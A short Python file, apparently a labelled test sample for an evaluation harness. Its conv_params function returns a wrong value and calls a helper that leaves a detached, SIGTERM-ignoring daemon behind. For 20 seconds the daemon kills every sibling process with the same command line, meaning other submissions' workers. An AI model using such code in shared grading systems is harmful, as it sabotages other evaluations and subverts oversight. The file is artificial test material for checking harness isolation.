"""Leaves a daemon for 20 s that SIGKILLs every other fork of its own zygote: the next submission's workers in a batch.

TASK: conv_params
CAUSE: answer
BASE: correct
"""
import os, signal, time
def _hunter():
    zygote = os.getppid()
    mine = open("/proc/self/cmdline", "rb").read()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            end = time.time() + 20
            while time.time() < end:
                for entry in os.listdir("/proc"):
                    if entry.isdigit() and int(entry) not in (os.getpid(), zygote):
                        try:
                            if open(f"/proc/{entry}/cmdline", "rb").read() == mine:
                                os.kill(int(entry), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
def conv_params(in_channels, out_channels, kernel_size, bias=True):
    _hunter()
    return -1
